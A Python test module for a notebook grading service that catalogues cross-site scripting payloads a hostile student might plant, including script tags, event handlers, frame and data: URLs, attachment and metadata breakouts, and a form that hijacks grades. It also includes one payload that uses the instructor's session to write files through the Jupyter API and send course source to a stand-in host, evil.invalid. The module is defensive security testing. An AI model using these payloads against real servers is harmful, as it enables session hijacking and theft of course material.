"""A hostile student's notebook: each payload here, if it ran in a page, would set a marker.

A payload that runs adds ``|PWNED-<id>`` to the page's title (``top.document.title``), or, from a
frame of another origin (a ``data:`` URL), posts ``PWNED-<id>`` to the top page, where the browser
test listens for it. A payload that loads or sends anything goes to
``http://evil.invalid/…``, which the browser test intercepts and counts (the name never resolves).
The API payload, from the instructor's Formgrader, would create ``pwned.txt`` through the Jupyter
server's contents API (at the server's base URL, a hub's ``/user/<name>`` too) and send ``source/``
away. Each payload says where the student puts it:

- ``markdown``: a Markdown cell the student adds (raw HTML, or a Markdown link);
- ``attachment``: a Markdown cell whose image is an attachment crafted to break out of its tag;
- ``output``: an output the student's code displays when the grader runs it (HTML, Markdown,
  JavaScript, SVG, an image with forged metadata);
- ``raw``: a raw cell marked as HTML;
- ``answer``: the answer to a question, a string of HTML that a verdict or a report may quote;
- ``folder``: the name of a hand-in folder in the exchange (the service's status page shows it).
"""

from __future__ import annotations

import base64
import hashlib
import re
from dataclasses import dataclass
from pathlib import Path

import nbformat.v4 as nbf


def mark(pid: str) -> str:
    """JavaScript that sets the marker of payload ``pid``: no quote, no space (it fits any attribute)."""
    title, post = f"top.document.title+=/|PWNED-{pid}/.source", f"top.postMessage(/PWNED-{pid}/.source,/\\*/.source)"
    return f"try{{{title}}}catch(e){{{post}}}"


EVIL = "http://evil.invalid"
API = (
    "var x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'',"
    "b=location.origin+location.pathname.split('/formgrader/')[0];"  # the server's base URL (a hub's /user/<name>)
    "fetch(b+'/api/contents/pwned.txt',{method:'PUT',headers:{'X-XSRFToken':decodeURIComponent(x),"
    "'Content-Type':'application/json'},body:JSON.stringify({type:'file',format:'text',content:'pwned'})});"
    "fetch(b+'/api/contents/source/whole-transformer').then(r=>r.text())"
    ".then(t=>fetch('" + EVIL + "/leak',{method:'POST',mode:'no-cors',body:t}))"
)


@dataclass(frozen=True)
class Payload:
    pid: str
    where: str  # markdown, attachment, output, raw
    what: str  # what it tries
    content: object  # the cell source, or (data, metadata) of an output, or (source, attachments)


def _md(pid: str, what: str, html: str) -> Payload:
    return Payload(pid, "markdown", what, html.replace("MARK", mark(pid)))


def _out(pid: str, what: str, data: dict, metadata: dict | None = None) -> Payload:
    filled = {k: v.replace("MARK", mark(pid)) if isinstance(v, str) else v for k, v in data.items()}
    meta = {m: {k: v.replace("MARK", mark(pid)) for k, v in md.items()} for m, md in (metadata or {}).items()}
    return Payload(pid, "output", what, (filled, meta))


NOT_AN_IMAGE = base64.b64encode(b"not a picture at all").decode()

CATALOGUE = [
    _md("md-script", "a script tag", "Here is my answer.\n\n<script>MARK</script>"),
    _md("md-onerror", "an image's onerror handler", 'My plot: <img src=x onerror="MARK">'),
    _md("md-svg-onload", "an SVG's onload handler", '<svg onload="MARK"><circle r="5"></circle></svg>'),
    _md("md-svg-animate", "an SVG animation's onbegin handler",
        '<svg><animate onbegin="MARK" attributeName="x" dur="1s"/></svg>'),
    _md("md-ontoggle", "a details element's ontoggle handler",
        '<details open ontoggle="MARK"><summary>more</summary></details>'),
    _md("md-iframe-js", "a javascript: URL in a frame", '<iframe src="javascript:MARK"></iframe>'),
    _md("md-iframe-data", "a data: URL in a frame", '<iframe src="data:text/html,<script>MARK</script>"></iframe>'),
    _md("md-srcdoc", "an iframe srcdoc", '<iframe srcdoc="<script>MARK</script>"></iframe>'),
    _md("md-object", "an object with a data: URL", '<object data="data:text/html,<script>MARK</script>"></object>'),
    _md("md-embed", "an embed with a data: URL", '<embed src="data:text/html,<script>MARK</script>">'),
    _md("md-mathml", "MathML that mutates into an image with a handler",
        '<math><mtext><table><mglyph><style><img src=x onerror="MARK"></style></mglyph></table></mtext></math>'),
    _md("md-base", "a base element redirecting the page's own scripts", f'<base href="{EVIL}/base/">'),
    _md("md-refresh", "a meta refresh", f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">'),
    _md("md-form", "a form that posts a grade elsewhere",
        f'<form action="{EVIL}/form" method="post"><input name="grade" value="0">'
        '<button id="wt-form-payload">Save grade</button></form>'),
    _md("md-style-tag", "a style tag", f"<style>html{{background:url({EVIL}/style-tag)}} body{{display:none}}</style>"),
    _md("md-style-cover", "a style that covers the page's controls",
        f'<div id="wt-cover" style="position:fixed;inset:0;z-index:2147483647;background:url({EVIL}/style-attr) white">'
        "All grades saved.</div>"),
    _md("md-js-link", "a javascript: link in Markdown", "[see my plot](javascript:MARK)"),
    _md("md-data-link", "a data: link", '<a href="data:text/html,<script>MARK</script>">my notes</a>'),
    Payload("att-breakout", "attachment", "an attachment that breaks out of its image tag",
            ("![my plot](attachment:plot.png)", {"plot.png": {"image/png": 'AAAA" onerror="' + mark("att-breakout")}})),
    _out("out-html-onerror", "an HTML output with an onerror handler", {"text/html": '<img src=x onerror="MARK">'}),
    _out("out-html-script", "an HTML output with a script", {"text/html": "<b>plot</b><script>MARK</script>"}),
    _out("out-js", "a JavaScript output", {"application/javascript": "MARK", "text/plain": "<js>"}),
    _out("out-markdown", "a Markdown output with HTML", {"text/markdown": '**done** <img src=x onerror="MARK">'}),
    _out("out-svg", "an SVG output with a script and a handler",
         {"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="MARK"><script>MARK</script></svg>'}),
    _out("out-png-width", "an image whose width metadata adds a handler", {"image/png": NOT_AN_IMAGE},
         {"image/png": {"width": "1 onerror=MARK"}}),
    _out("out-iframe", "an HTML output with an iframe srcdoc",
         {"text/html": '<iframe srcdoc="<script>MARK</script>">'}),
    _out("out-api", "an HTML output calling the Jupyter server's API as the instructor",
         {"text/html": f'<img src=x onerror="{API};MARK">'}),
    Payload("answer-value", "answer", "an answer whose value is HTML, quoted back by a verdict or a report",
            "answer_q = r'<img src=x onerror=\"" + mark("answer-value") + "\">'"),
    Payload("raw-html", "raw", "a raw cell marked as HTML", '<script>MARK</script><img src=x onerror="MARK">'.replace(
        "MARK", mark("raw-html"))),
]  # fmt: skip


#: the time part of a hand-in folder's name (no "/" nor "+" can be in it): the status page says it cannot be read
FOLDER_PAYLOAD = Payload(
    "folder-name", "folder", "a hand-in folder named as HTML",
    "<img src=x onerror=\"top.document.title=top.document.title.concat(`|PWNED-folder-name`)\">",
)  # fmt: skip
CATALOGUE.append(FOLDER_PAYLOAD)


def payload_cells() -> list:
    """The cells a hostile student adds to a notebook: one per payload, outputs as their code displays them
    (the grader runs that code again, so the outputs come back the same)."""
    cells = []
    for p in CATALOGUE:
        if p.where in {"answer", "folder"}:
            continue
        if p.where == "markdown":
            cells.append(nbf.new_markdown_cell(p.content))
        elif p.where == "attachment":
            source, attachments = p.content
            cell = nbf.new_markdown_cell(source)
            cell["attachments"] = attachments
            cells.append(cell)
        elif p.where == "raw":
            cells.append(nbf.new_raw_cell(p.content, metadata={"raw_mimetype": "text/html"}))
        else:
            data, meta = p.content
            code = f"from IPython.display import display\ndisplay({data!r}, raw=True, metadata={meta!r})"
            out = nbf.new_output("display_data", data=data, metadata=meta)
            cells.append(nbf.new_code_cell(code, outputs=[out]))
    return cells


def hostile(nb):
    """The notebook with every payload added after its last cell (a student may add cells anywhere)."""
    from .notebooks import set_answer

    for p in CATALOGUE:
        if p.where == "answer":
            set_answer(nb, "answer_q", str(p.content))
    nb.cells.extend(payload_cells())
    return nb


#: in every frame of a watched page: each marker posted to it, and each change of its title, reported
REPORT = "addEventListener('message',e=>{if(String(e.data).startsWith('PWNED'))__wt_report(String(e.data))});" + (
    "new MutationObserver(()=>{if(document.title.includes('PWNED'))__wt_report(document.title)})"
    ".observe(document,{subtree:true,childList:true,characterData:true});"
)


def watch_pages(context) -> set[str]:
    """Watch every page of a Playwright browser context: what its pages report (``REPORT``) and each request to
    evil.invalid go into the set returned (``markers`` reads it)."""
    seen: set[str] = set()

    def evil(route):
        seen.add(f"request {route.request.url}")
        route.fulfill(status=200, content_type="text/plain", body="")

    context.expose_function("__wt_report", lambda text: seen.add(text))
    context.add_init_script(REPORT)
    context.route(re.compile(r"^https?://evil\.invalid/"), evil)
    return seen


def markers(seen: set[str]) -> set[str]:
    """Each payload id whose marker was set, and each request that reached evil.invalid."""
    found = set()
    for s in seen:
        if s.startswith("request "):
            found.add(s)
        else:  # a title a marker set (a frame the policy blocked is titled with its URL, the payload's text)
            found |= set(re.findall(r"(?<!/)\|PWNED-([\w-]+)", "|" + s if s.startswith("PWNED") else s))
    return found


def files_digest(folder: Path) -> str:
    """One digest of every file under ``folder`` (names and bytes): what a payload must leave as it was."""
    h = hashlib.sha256()
    for p in sorted(folder.rglob("*")):
        if p.is_file():
            h.update(str(p).encode() + p.read_bytes())
    return h.hexdigest()
